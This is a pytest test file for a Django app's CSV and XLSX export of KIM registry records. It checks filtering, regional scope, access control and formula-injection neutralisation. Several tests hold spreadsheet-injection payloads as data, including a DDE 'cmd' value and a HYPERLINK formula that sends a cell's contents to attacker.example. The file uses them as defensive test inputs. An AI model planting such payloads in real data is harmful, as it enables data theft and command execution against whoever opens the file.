"""KIM list exports: the filtered list, in scope, formula-safe, streamed."""

import csv
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from kimportal.regions.models import Region
from registry.choices import KimStatus, MediaType, PartnershipStatus
from registry.models import Partnership
from registry.resources import ChoiceLabelWidget, ChoiceListWidget, KimResource

from .factories import (
    KAB_MALANG_VILLAGE,
    KOTA_MALANG_VILLAGE,
    KimFactory,
    UserFactory,
    VerifiedKimFactory,
)

pytestmark = pytest.mark.django_db

HEADERS = [
    "NIK",
    "Nama KIM",
    "Tipe",
    "Status",
    "Provinsi",
    "Kabupaten/Kota",
    "Kecamatan",
    "Desa/Kelurahan",
    "Kode desa/kelurahan",
    "Alamat",
    "Ketua/narahubung",
    "WhatsApp",
    "Email",
    "Jenis media",
    "Bidang kegiatan",
    "Status kemitraan",
    "Tanggal verifikasi",
]
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def first_row(response) -> dict[str, str]:
    return dict(zip(HEADERS, csv_rows(response)[1], strict=True))


def xlsx_rows(response) -> list[list]:
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [list(row) for row in workbook.active.iter_rows(values_only=True)]


def export(client, user, fmt="csv", **params):
    client.force_login(user)
    return client.get(f"/kim/export/{fmt}/", params)


def test_csv_holds_exactly_the_filtered_list_with_indonesian_headers(
    client, demo_users
):
    VerifiedKimFactory(name="KIM Mentari")
    KimFactory(name="KIM Draf")

    response = export(client, demo_users["kab-malang"], status="verified")

    rows = csv_rows(response)
    assert rows[0] == HEADERS
    assert [row[1] for row in rows[1:]] == ["KIM Mentari"]


def test_csv_is_streamed_as_a_dated_attachment(client, demo_users):
    KimFactory()

    response = export(client, demo_users["kab-malang"])

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="kim-{today}.csv"'


def test_xlsx_holds_the_same_rows_as_the_csv(client, demo_users):
    VerifiedKimFactory(name="KIM Bintang")
    KimFactory(name="KIM Anggrek")

    response = export(client, demo_users["kab-malang"], fmt="xlsx")

    rows = xlsx_rows(response)
    assert rows[0] == HEADERS
    assert sorted(row[1] for row in rows[1:]) == ["KIM Anggrek", "KIM Bintang"]
    today = timezone.localdate().isoformat()
    assert f"kim-{today}.xlsx" in response["Content-Disposition"]


def test_a_row_spells_out_region_labels_partnership_and_verification_date(
    client, demo_users
):
    kim = VerifiedKimFactory(
        name="KIM Lengkap",
        street="Jl. Mawar",
        house_number="7",
        rt="001",
        rw="002",
        media_types=[MediaType.SOCIAL],
        fields=["kesehatan", "pertanian"],
    )
    Partnership.objects.create(
        kim=kim,
        starts_on="2026-01-01",
        ends_on="2026-12-31",
        created_by=demo_users["kab-malang"],
    )

    row = first_row(export(client, demo_users["kab-malang"]))

    village = Region.objects.select_related("parent__parent__parent").get(
        code=KAB_MALANG_VILLAGE
    )
    assert row["Desa/Kelurahan"] == village.name
    assert row["Kecamatan"] == village.parent.name
    assert row["Kabupaten/Kota"] == village.parent.parent.name
    assert row["Provinsi"] == village.parent.parent.parent.name
    assert row["Status"] == "Terverifikasi"
    assert row["Alamat"] == "Jl. Mawar, No. 7, RT 001/RW 002"
    assert row["Jenis media"] == "Media sosial"
    assert row["Bidang kegiatan"] == "Kesehatan; Pertanian"
    assert row["Status kemitraan"] == str(PartnershipStatus.ACTIVE.label)
    assert (
        row["Tanggal verifikasi"]
        == timezone.localtime(kim.verified_at).date().isoformat()
    )
    assert row["NIK"] == kim.nik


def test_regency_export_holds_only_its_own_kab_kota(client, demo_users):
    KimFactory(name="KIM Kabupaten")
    KimFactory(name="KIM Kota", village_id=KOTA_MALANG_VILLAGE)

    kab = csv_rows(export(client, demo_users["kab-malang"]))
    province = csv_rows(export(client, demo_users["prov-jatim"]))

    assert [row[1] for row in kab[1:]] == ["KIM Kabupaten"]
    assert sorted(row[1] for row in province[1:]) == ["KIM Kabupaten", "KIM Kota"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_kim_and_agency_users_have_no_export(client, demo_users, fmt):
    kim = VerifiedKimFactory()
    member = UserFactory(role="kim", kim=kim)

    assert export(client, demo_users["kl-demo"], fmt).status_code == 404
    assert export(client, member, fmt).status_code == 404


def test_an_unknown_format_is_404(client, demo_users):
    assert export(client, demo_users["kab-malang"], "pdf").status_code == 404


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(
    client, demo_users, start
):
    payload = f'{start}HYPERLINK("http://jahat.example","klik")'
    KimFactory(name=payload, chair_name=f"{start}cmd|' /C calc'!A0")

    row = first_row(export(client, demo_users["kab-malang"]))

    assert row["Nama KIM"] == "'" + payload
    assert row["Ketua/narahubung"] == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_xlsx_cells_that_start_like_a_formula_are_text_with_an_apostrophe(
    client, demo_users, start
):
    payload = f"{start}SUM(1+1)*cmd"
    KimFactory(name=payload)

    response = export(client, demo_users["kab-malang"], fmt="xlsx")

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cell = workbook.active.cell(row=2, column=HEADERS.index("Nama KIM") + 1)
    assert cell.data_type == "s"
    # XML turns a bare CR into LF when read back; what matters is the apostrophe first.
    assert cell.value.replace("\n", "\r") == "'" + payload.replace("\n", "\r")


def test_whatsapp_numbers_are_neutralised_too(client, demo_users):
    KimFactory(whatsapp="+6281234567890")

    row = first_row(export(client, demo_users["kab-malang"]))

    assert row["WhatsApp"] == "'+6281234567890"


def test_export_runs_in_a_constant_number_of_queries(client, demo_users):
    client.force_login(demo_users["kab-malang"])
    KimFactory.create_batch(2)

    def count_queries() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = client.get("/kim/export/csv/")
            b"".join(response.streaming_content)
        return len(queries)

    few = count_queries()
    KimFactory.create_batch(8, village_id="35.07.01.2002")
    many = count_queries()

    assert few == many


def test_the_resource_reads_back_labels_for_the_import():
    status = ChoiceLabelWidget(KimStatus)
    media = ChoiceListWidget(MediaType)

    assert status.clean("Terverifikasi") == KimStatus.VERIFIED
    assert status.clean("draft") == KimStatus.DRAFT
    assert media.clean(media.render(["social", "meeting"])) == ["social", "meeting"]
    with pytest.raises(ValueError):
        status.clean("Entah")


def test_the_resource_headers_are_the_export_headers():
    assert KimResource().get_export_headers() == HEADERS


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("control", [chr(c) for c in range(1, 0x20)] + ["\x7f"])
def test_a_control_character_before_a_formula_cannot_unmask_it(
    client, demo_users, fmt, control
):
    """Issue #7 finding 1: the apostrophe is added after the XLSX writer's clean-up."""
    chair = control + '=HYPERLINK("http://attacker.example/?d="&A2,"Lihat")'
    KimFactory(chair_name=chair)

    response = export(client, demo_users["kab-malang"], fmt)

    if fmt == "csv":
        cell = first_row(response)["Ketua/narahubung"]
    else:
        cell = xlsx_rows(response)[1][HEADERS.index("Ketua/narahubung")]
    assert cell.startswith("'"), repr(cell)
    assert "=HYPERLINK" in cell
